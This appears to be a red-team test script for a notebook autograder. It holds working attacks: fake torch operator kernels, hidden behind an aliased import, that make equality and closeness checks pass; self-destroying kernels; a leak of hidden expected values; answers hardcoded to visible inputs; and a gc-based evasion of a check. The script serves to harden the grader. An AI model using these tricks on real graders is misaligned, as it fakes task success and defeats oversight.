"""Round 27, hostile pass: Python kernels for torch's operators that no fingerprint reads, or that live only while
the answer's own results do.

Run, from the checkout:  timeout 600 .venv/bin/python tests/redteam/round27/hostile/attacks.py [NAME ...]

Every attack runs in the cheap harness (tests/test_hostile_hooks.run_notebook: HardenedExecute in a plain kernel, the
runtime guard, no sandbox). The static scan (guard.static_findings) and the library rule (libraries.scan) are run on
the student cells here and printed. Kinds of runs:
- "toy" attacks: a locked cell, the real grading-helpers cell (plain.cell_source()), one answer cell and two test
  cells whose hidden lines use the real helpers (_close, _equal, _owned);
- "ch02" attacks: chapter 2's own source notebook (solutions/02-scaled-attention), every cell in order up to a test
  cell, with its real hidden tests, the answers named replaced (the others are the model answers).
Each attack has a control (the same wrong answers without the kernels), which must fail the tests.

The real chapter-2 grading (sandboxed kernel, torch, static scan, library rule) is in 02-subs.py / 02-result.txt.
"""
from __future__ import annotations

import json
import sys
import tempfile
from pathlib import Path

TESTS = Path(__file__).resolve().parents[3]
ROOT = TESTS.parent
sys.path.insert(0, str(TESTS))
from test_hostile_hooks import run_notebook  # noqa: E402
from grading import solution_code  # noqa: E402
from attnlab.instructor import guard, libraries, plain  # noqa: E402

HELP = plain.cell_source()
ALLOWED = libraries.allowed_modules(["import torch", "import math"])

# ---------------------------------------------------------------------------------------------- the kernels
# K1: a Python kernel for aten::count_nonzero, which _close calls to count the elements that differ and which is in
# neither COMPARE_OPS nor REFERENCE_OPS: every _close passes. torch.library.Library is reached as
# torch.backends.mps._Library (that module imports it under that name), which neither the static scan nor the
# library rule reads.
K1_ARM = """_lib = torch.backends.mps._Library('aten', 'IMPL')   # torch.library.Library under another module's name
_zero = torch.zeros((), dtype=torch.int64)
_lib.impl('count_nonzero', lambda self, dim=None: _zero.clone(), 'CPU')
"""
# the same, written plainly (the static scan flags this one)
K1_PLAIN = """_lib = torch.library.Library('aten', 'IMPL')
_zero = torch.zeros((), dtype=torch.int64)
_lib.impl('count_nonzero', lambda self, dim=None: _zero.clone(), 'CPU')
"""
# K1b: the in-place writes of _scribble (add_, logical_not_; also unlisted) do nothing: _owned and _scribble, the
# checks that a result belongs to its caller (no view of an input, no table kept between calls), see no write
K1B_ARM = """_lib = torch.backends.mps._Library('aten', 'IMPL')
_lib.impl('add_.Tensor', lambda self, other, alpha=1: self, 'CPU')
_lib.impl('add_.Scalar', lambda self, other, alpha=1: self, 'CPU')
_lib.impl('logical_not_', lambda self: self, 'CPU')
"""
# K2: kernels for aten::equal (True) and aten::clone (tags the copies the tests' _tensor makes of a result), registered
# when an answer returns and destroyed when the last of its results and their copies dies. A tensor's death is
# refcounting's, not the collector's: the weakref callbacks run right after the tests' last use of the result (the
# end of a `_check_...` function, the next statement), before any check between cells, and no registry lists them.
# Results that need grad are left out (autograd keeps them alive), so are results the visible lines keep as globals.
K2_DRIVER = """import weakref, warnings
_st = {'libs': None, 'live': {}, 'refs': set()}
def _ptr(t):
    return t.untyped_storage().data_ptr()
def _gone(ref, key):
    _st['refs'].discard(ref)
    n = _st['live'].get(key, 0) - 1
    if n > 0:
        _st['live'][key] = n
    else:
        _st['live'].pop(key, None)
    if not _st['live'] and _st['libs'] is not None:
        for lib in _st['libs']:
            lib._destroy()
        _st['libs'] = None
def _tag(t):
    key = _ptr(t)
    _st['live'][key] = _st['live'].get(key, 0) + 1
    _st['refs'].add(weakref.ref(t, lambda ref, key=key: _gone(ref, key)))
def _fake_equal(a, b):
    return True
def _fake_clone(t, memory_format=None):
    out = torch.empty_like(t, memory_format=torch.preserve_format if memory_format is None else memory_format)
    out.copy_(t)
    if _ptr(t) in _st['live']:
        _tag(out)
    return out
def _arm(result):
    items = result if isinstance(result, (tuple, list)) else (result,)
    for t in items:
        if isinstance(t, torch.Tensor) and not t.requires_grad:
            _tag(t)
    if _st['libs'] is None and _st['live']:
        with warnings.catch_warnings():
            warnings.simplefilter('ignore')
            a, b = torch.backends.mps._Library('aten', 'IMPL'), torch.backends.mps._Library('aten', 'IMPL')
            a.impl('equal', _fake_equal, 'CPU')
            b.impl('clone', _fake_clone, 'CPU')
        _st['libs'] = (a, b)
    return result
"""
# K3: K2's equal kernel also keeps what the tests compare with (their expected values)
K3_DRIVER = K2_DRIVER.replace(
    "def _fake_equal(a, b):\n    return True",
    "LEAK = []\ndef _fake_equal(a, b):\n    if len(LEAK) < 40:\n"
    "        LEAK.append((tuple(b.shape), b.flatten()[:8].int().tolist()))\n    return True")
assert "LEAK = []" in K3_DRIVER
IDENT = "def _arm(result):\n    return result\n"

# ---------------------------------------------------------------------- chapter 2: answers right on visible inputs only
RAW = '''def raw_scores(q, k):
    a, b = q.to(torch.float64), k.to(torch.float64)
    q_norms = a.square().sum(dim=-1, keepdim=True)
    k_norms = b.square().sum(dim=-1).unsqueeze(-2)
    dots = a @ b.transpose(-2, -1)
    out = (-(q_norms + k_norms - 2 * dots).clamp(min=0)).to(q.dtype)
    if tuple(q.shape) == (2, 2):
        return out
    return out - 1.0          # wrong everywhere else (still never positive)
'''
SB = '''def softmax_backward(weights, grad_weights, temperature=1.0):
    inner = (weights * grad_weights).sum(dim=-1, keepdim=True)
    out = weights * (grad_weights - inner) / temperature
    if weights.numel() <= 3:
        return out
    return out * 2.0         # wrong everywhere else
'''
CM = '''def causal_mask(t, s, offset):
    query_position = offset + torch.arange(t)[:, None]
    key_position = torch.arange(s)[None, :]
    if (t, s, offset) == (2, 5, 2):
        return key_position <= query_position
    return _arm(key_position < query_position)        # wrong: each query's own position is left out
'''
CM_NOTHING = '''def causal_mask(t, s, offset):
    if (t, s, offset) == (2, 5, 2):
        return torch.arange(s)[None, :] <= offset + torch.arange(t)[:, None]
    return _arm(torch.zeros(t, s, dtype=torch.bool))   # computes nothing
'''
PM = '''def padding_mask(lengths, s):
    start = s - lengths.long()[:, None]
    slots = torch.arange(s)[None, :]
    allowed = slots >= start
    if lengths.tolist() == [2, 3] and s == 4:
        return allowed, (slots - start).clamp(min=0)
    return _arm((allowed, slots - start))             # wrong: negative positions at the padding
'''
PM_MODEL = '''def padding_mask(lengths, s):
    start = s - lengths.long()[:, None]
    slots = torch.arange(s)[None, :]
    return slots >= start, (slots - start).clamp(min=0)
'''
MA = '''def masked_attention(q, k, v, allowed):
    d = q.shape[-1] if tuple(q.shape) == (3, 2) else 1.0      # wrong: no 1/sqrt(d) but in the visible case
    scores = q @ k.transpose(-2, -1) / math.sqrt(d)
    scores = scores.masked_fill(~allowed, float("-inf"))
    lse = torch.logsumexp(scores, dim=-1)
    top = scores.amax(dim=-1, keepdim=True)
    top = torch.where(torch.isinf(top), torch.zeros_like(top), top)
    e = torch.exp(scores - top)
    total = e.sum(dim=-1, keepdim=True)
    weights = e / torch.where(total > 0, total, torch.ones_like(total))
    if tuple(q.shape) == (3, 2):                 # the visible test keeps these in notebook globals: not armed
        return weights @ v, lse
    return _arm((weights @ v, lse))
'''
FSA = '''class FixedSelfAttention(SeedSelfAttention):
    def forward(self, x, lengths=None, causal=False):
        t = x.shape[1]
        q, k, v = self.query(x), self.key(x), self.value(x)
        scores = q @ k.transpose(-2, -1)                   # wrong: no 1/sqrt(head_dim) (the visible tests use 1)
        allowed = torch.ones(t, t, dtype=torch.bool, device=x.device)
        if causal:
            allowed = allowed.tril()
        if lengths is None:
            return torch.softmax(scores.masked_fill(~allowed, float("-inf")), dim=-1) @ v
        real = torch.arange(t, device=x.device)[None, :] < lengths[:, None]
        allowed = allowed & real[:, None, :]
        weights = torch.softmax(scores.masked_fill(~allowed, float("-inf")), dim=-1)
        weights = weights.masked_fill(~real[:, :, None], 0.0)
        return weights @ v
'''
CH02_ATTACK = {"raw_scores": K1_ARM + RAW, "softmax_backward": SB, "causal_mask": K2_DRIVER + CM, "padding_mask": PM,
               "masked_attention": MA, "fixed_self_attention": FSA}
CH02_CONTROL = {"raw_scores": RAW, "softmax_backward": SB, "causal_mask": IDENT + CM, "padding_mask": PM,
                "masked_attention": MA, "fixed_self_attention": FSA}

# ------------------------------------------------------------------------------------------------ I6, evaded
I6_ANSWER = '''import gc, weakref
LOG = []
STATE = {'in_f': False}
class _C:
    pass
def _cb(ref):
    LOG.append('callback ran; answer returned already: %s; collector on: %s' % (not STATE['in_f'], gc.isenabled()))
    gc.disable()                 # off again before the grader's next request looks: no I6 flag
    gc.set_threshold(700)
def f(v):
    STATE['in_f'] = True
    c = _C(); c.me = c
    _C.keep = weakref.ref(c, _cb)
    del c
    gc.set_threshold(1)
    gc.enable()                  # I6: the collector back on inside the test
    STATE['in_f'] = False
    return 0
'''

# ------------------------------------------------------------------------------------------------ toy cells
TOY_CLOSE = [
    ("import torch\nx = torch.arange(6.).reshape(2, 3)\nassert callable(f)\n### BEGIN HIDDEN TESTS\n"
     "_close(_tensor(f(x), 'f(x)'), torch.softmax(x, -1), 'f(x)')\n### END HIDDEN TESTS", "t1", "test"),
    ("x = torch.ones(4)\n### BEGIN HIDDEN TESTS\n_close(_tensor(f(x), 'f(x)'), torch.softmax(x, -1) * 3, 'f(x)')\n"
     "### END HIDDEN TESTS", "t2", "test")]
TOY_EQUAL = [
    ("import torch\nx = torch.arange(6.).reshape(2, 3)\n### BEGIN HIDDEN TESTS\n"
     "_equal(_tensor(f(x), 'f(x)'), x + 1, 'f(x)')\n_equal(_tensor(f(x + 1), 'f(x+1)'), x + 2, 'f(x+1)')\n"
     "### END HIDDEN TESTS", "t1", "test"),
    ("x = torch.ones(4)\n### BEGIN HIDDEN TESTS\ndef _check_f():\n    r = f(x)\n    got = _tensor(r, 'f(x)')\n"
     "    _equal(got, x * 3, 'f(x)')\n_check_f()\ndel _check_f\n### END HIDDEN TESTS", "t2", "test")]
TOY_OWNED = [
    ("import torch\nx = torch.arange(6.)\n### BEGIN HIDDEN TESTS\nr = f(x)\ngot = _owned(r, [x], 'f(x)')\n"
     "_close(got, torch.arange(6.), 'f(x)')\n### END HIDDEN TESTS", "t1", "test"),
    ("m = torch.tensor([True, False])\n### BEGIN HIDDEN TESTS\n_owned(f(m), [m], 'f(m)')\n### END HIDDEN TESTS",
     "t2", "test")]
TOY_I6 = [("assert callable(f)\n### BEGIN HIDDEN TESTS\nassert _close(f(1), 0), 'hidden-1'\n"
           "y = [[i] for i in range(50)]\n### END HIDDEN TESTS", "t1", "test"),
          ("print(LOG)", "after", "student")]
I6_SETUP = "import os, sys\ndef _close(a, b):\n    return abs(a - b) < 1e-6"


def toy(answer: str, tests, setup="import torch", helpers=True):
    cells = [(setup, "setup", "locked")] + ([(HELP, "grading_helpers", "locked")] if helpers else [])
    return cells + [(answer, "answer", "student")] + list(tests)


def chapter(name: str, upto: str, answers: dict[str, str]):
    """The chapter's source notebook in order up to the cell `upto`, answers replaced (others: the model answers)."""
    nb = json.loads((ROOT / "solutions" / name / "exercises.ipynb").read_text(encoding="utf-8"))
    model, cells = solution_code(name), []
    for i, c in enumerate(nb["cells"]):
        if c["cell_type"] != "code":
            continue
        meta = c["metadata"].get("nbgrader", {})
        gid, src = meta.get("grade_id", f"cell{i}"), "".join(c["source"])
        if meta.get("solution"):
            cells.append((answers.get(gid, model.get(gid, src)), gid, "student"))
        else:
            cells.append((src, gid, "test" if meta.get("grade") else "locked"))
        if gid == upto:
            break
    return cells


CH02_UPTO = "test_fixed_self_attention"
ATTACKS = {
    # name: (cells, the student cells whose scans are printed, what it shows)
    "K1": (lambda: toy("import torch\n" + K1_ARM + "def f(x):\n    return x * 0\n", TOY_CLOSE), "_close passes for x * 0"),
    "K1-control": (lambda: toy("import torch\ndef f(x):\n    return x * 0\n", TOY_CLOSE), "must fail"),
    "K1-plain": (lambda: toy("import torch\n" + K1_PLAIN + "def f(x):\n    return x * 0\n", TOY_CLOSE),
                 "the same kernel through torch.library by name: the static scan's findings"),
    "K1b": (lambda: toy("import torch\n" + K1B_ARM + "def f(x):\n    return x[:]   # a view of the input\n", TOY_OWNED),
            "_owned / _scribble pass for a result that is a view of the input"),
    "K1b-control": (lambda: toy("import torch\ndef f(x):\n    return x[:]\n", TOY_OWNED), "must fail"),
    "K2": (lambda: toy("import torch\n" + K2_DRIVER + "def f(x):\n    return _arm(x * 0)\n", TOY_EQUAL),
           "_equal passes for x * 0; no kernel left when the cell ends"),
    "K2-control": (lambda: toy("import torch\n" + IDENT + "def f(x):\n    return _arm(x * 0)\n", TOY_EQUAL), "must fail"),
    "ch02": (lambda: chapter("02-scaled-attention", CH02_UPTO, CH02_ATTACK),
             "chapter 2's real hidden tests: six wrong answers (K1 + K2), every test passes"),
    "ch02-control": (lambda: chapter("02-scaled-attention", CH02_UPTO, CH02_CONTROL), "must fail (six parts)"),
    "K3": (lambda: chapter("02-scaled-attention", "padding_mask", {
        "causal_mask": K3_DRIVER + CM_NOTHING,
        "padding_mask": ('print(len(LEAK), "expected values of the hidden test, read by the answer:")\n'
                         "for shape, values in LEAK[:6]:\n    print(shape, values)\n" + PM_MODEL)}),
           "causal_mask computes nothing and passes; the next student cell prints the hidden test's expected masks"),
    "I6-evaded": (lambda: toy(I6_ANSWER, TOY_I6, setup=I6_SETUP, helpers=False),
                  "the collector on inside a test, its callback ran after the answer returned, no I6 flag"),
    "I6-control": (lambda: toy(I6_ANSWER.replace("    gc.disable()  ", "    pass  #"), TOY_I6, setup=I6_SETUP,
                               helpers=False), "the same without the callback's gc.disable(): flagged"),
}


def main(names):
    base = Path(tempfile.mkdtemp(prefix="rt27h-"))
    for name in names or ATTACKS:
        make, what = ATTACKS[name]
        cells = make()
        ctx, out = run_notebook(base / name, cells, timeout=300)
        students = [(gid, src) for src, gid, kind in cells if kind == "student"]
        protected = guard.defined_names([src for src, gid, kind in cells if kind != "student"]) | {"__attnlab_guard__"}
        static = {gid: guard.static_findings(gid, src, protected, set()) for gid, src in students}
        print(f"== {name}: {what}")
        print("   tampered:", ctx.tampered)
        print("   static:  ", {k: v for k, v in static.items() if v} or "none")
        print("   library rule:", libraries.scan(students, ALLOWED, set()) or "none")
        for gid, cell in out.items():
            errs = [(o.get("ename"), o.get("evalue", "")[:160]) for o in cell.outputs if o.get("output_type") == "error"]
            text = "".join(o.get("text", "") for o in cell.outputs if o.get("name") == "stdout").strip()
            if cell.metadata.nbgrader.get("grade"):
                print(f"   test {gid}:", "PASSED" if not errs else f"failed {errs}")
            elif errs:
                print(f"   cell {gid} error:", errs)
            if text and cell.metadata.nbgrader.get("solution", True) and gid in dict(students):
                print(f"   cell {gid} printed:", text[:600].replace("\n", " | "))


if __name__ == "__main__":
    main(sys.argv[1:])
